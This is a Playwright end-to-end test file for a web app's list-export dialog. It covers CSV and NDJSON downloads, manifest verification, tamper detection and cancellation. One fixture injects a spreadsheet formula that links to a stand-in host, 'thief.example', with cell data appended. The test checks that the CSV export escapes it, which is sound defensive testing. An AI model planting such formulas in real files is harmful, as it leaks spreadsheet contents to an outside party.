import { readFile } from "node:fs/promises";
import {
  customer,
  plainMessage,
  uniqueCode,
} from "#lib/domain/voucherify/sample-bodies.ts";
import type { Page } from "@playwright/test";
import { entry, plainEntry } from "./bodies.ts";
import { choose, dataRows } from "./list.ts";
import {
  chooseSavePlace,
  saveDownload,
  takeSavedFile,
  verify,
  writeText,
} from "./saved-file.ts";
import { expect, test } from "./test.ts";

const formula = '=HYPERLINK("http://thief.example/?"&A1,"Click me")';
let wanted: readonly string[] = [];

test.beforeEach(async ({ source }) => {
  await source.send(plainEntry("Someone Else", "Gold"));
  wanted = [
    await source.send(entry(uniqueCode)),
    await source.send(
      entry({ ...plainMessage, customer: { ...customer, name: formula } }),
    ),
    await source.send(entry(plainMessage)),
  ];
  await source.send(plainEntry("Another", "Gold"));
});

test("give me this list as a spreadsheet, and prove that it is whole", async ({
  page,
}, testInfo) => {
  await chooseSavePlace(page);
  const release = await holdExports(page);
  await openExport(page);
  await expect(dialog(page)).toContainText("3 rows. All pages of this list");
  await page.getByRole("button", { name: "Save file" }).click();
  await expect(dialog(page).getByRole("status")).toContainText(
    "Preparing the file",
  );
  await expect(
    dialog(page).getByRole("button", { name: "Cancel" }),
  ).toBeVisible();
  release();
  await expect(dialog(page)).toContainText("3 rows, 0.0 MB saved.");

  const file = await takeSavedFile(page, testInfo, "entries.csv");
  const [head = "", ...rows] = (await readFile(file, "utf8"))
    .trimEnd()
    .split("\n");
  expect(head).toContain("Event ID,Received,Received (Europe/Warsaw),Outcome");
  expect(rows.map((row) => row.slice(0, 36))).toEqual(wanted.toReversed());
  expect(rows[1]).toContain(`"'${formula.replaceAll('"', '""')}"`);
  expect(rows[2]).toContain("BACK-7KQ2-M9");

  const manifest = await saveDownload(page, testInfo, () =>
    dialog(page).getByRole("link", { name: "Save its manifest" }).click(),
  );
  expect(await verify(file, manifest)).toMatchObject({
    code: 0,
    said: expect.stringContaining("the file that was exported, unchanged"),
  });

  const text = await readFile(file, "utf8");
  const tampered = await writeText(
    testInfo,
    "tampered.csv",
    text.replace("BACK-7KQ2-M9", "BACK-7KQ2-M8"),
  );
  expect(await verify(tampered, manifest)).toMatchObject({
    code: 1,
    said: expect.stringContaining("NOT the file that was exported"),
  });
});

test.describe("in a browser that saves by itself", () => {
  test("give me this list with the exact payloads", async ({
    page,
  }, testInfo) => {
    await page.addInitScript(() => {
      Object.assign(window, { showSaveFilePicker: undefined });
    });
    await openExport(page);
    await page.getByLabel("Format").selectOption("ndjson");
    const file = await saveDownload(page, testInfo, () =>
      page.getByRole("button", { name: "Save file" }).click(),
    );
    await expect(dialog(page)).toContainText(
      "Your browser is saving the file.",
    );

    const lines = (await readFile(file, "utf8")).trimEnd().split("\n");
    const events = lines.map(
      (line) => JSON.parse(line) as { id: string; payload: unknown },
    );
    expect(events.map(({ id }) => id)).toEqual(wanted.toReversed());
    expect(events[1]?.payload).toMatchObject({
      data: { customer: { name: formula } },
    });

    // Kept beside the file, it is found there.
    await saveDownload(page, testInfo, () =>
      dialog(page).getByRole("link", { name: "Save its manifest" }).click(),
    );
    expect((await verify(file)).code).toBe(0);
    await writeText(testInfo, file, `${lines.slice(1).join("\n")}\n`);
    expect((await verify(file)).said).toContain(
      "Rows: 2; the manifest says 3.",
    );
  });
});

test("an export that is cancelled saves nothing", async ({ page }) => {
  await chooseSavePlace(page);
  const release = await holdExports(page);
  await openExport(page);
  await page.getByRole("button", { name: "Save file" }).click();
  await dialog(page).getByRole("button", { name: "Cancel" }).click();
  await expect(dialog(page)).toContainText("Cancelled. Nothing was saved.");
  release();
  await expect(
    dialog(page).getByRole("button", { name: "Save file" }),
  ).toBeEnabled();
});

/** The dialog, over a list that has three of the five entries. */
async function openExport(page: Page): Promise<void> {
  await page.goto("/entries");
  await choose(page, "Segment", "Cart left behind");
  await expect(dataRows(page)).toHaveCount(wanted.length);
  await page.getByRole("button", { name: "Export" }).click();
}

function dialog(page: Page) {
  return page.getByRole("dialog", { name: "Export" });
}

/** Exports wait for what is returned, as on a slow line. */
async function holdExports(page: Page): Promise<() => void> {
  const held = Promise.withResolvers<undefined>();
  await page.route("**/api/v1/exports/events?*", async (route) => {
    await held.promise;
    await route.continue();
  });
  return () => {
    held.resolve(undefined);
  };
}
